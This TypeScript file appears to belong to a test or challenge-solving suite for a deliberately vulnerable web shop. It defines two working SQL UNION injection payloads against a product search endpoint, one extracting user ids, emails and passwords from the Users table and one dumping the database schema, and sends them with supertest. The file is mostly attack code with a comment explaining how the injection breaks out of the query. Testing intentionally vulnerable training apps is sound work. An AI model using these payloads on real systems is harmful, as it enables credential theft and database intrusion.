import request from 'supertest'
import type { Attacks } from '../../lib/attacks'

/** The search is concatenated into `... LIKE '%q%' OR ...)) ...`: close it and UNION nine columns of your own. */
export const UNION_INJECTIONS = {
  unionSqlInjectionChallenge: "qwert')) UNION SELECT id,email,password,'4','5','6','7','8','9' FROM Users--",
  dbSchemaChallenge: "qwert')) UNION SELECT sql,'2','3','4','5','6','7','8','9' FROM sqlite_master--",
} as const

export const productsAttacks: Attacks = Object.fromEntries(
  Object.entries(UNION_INJECTIONS).map(([key, q]) => [key, (target) => request(target).get('/rest/products/search').query({ q })]),
)
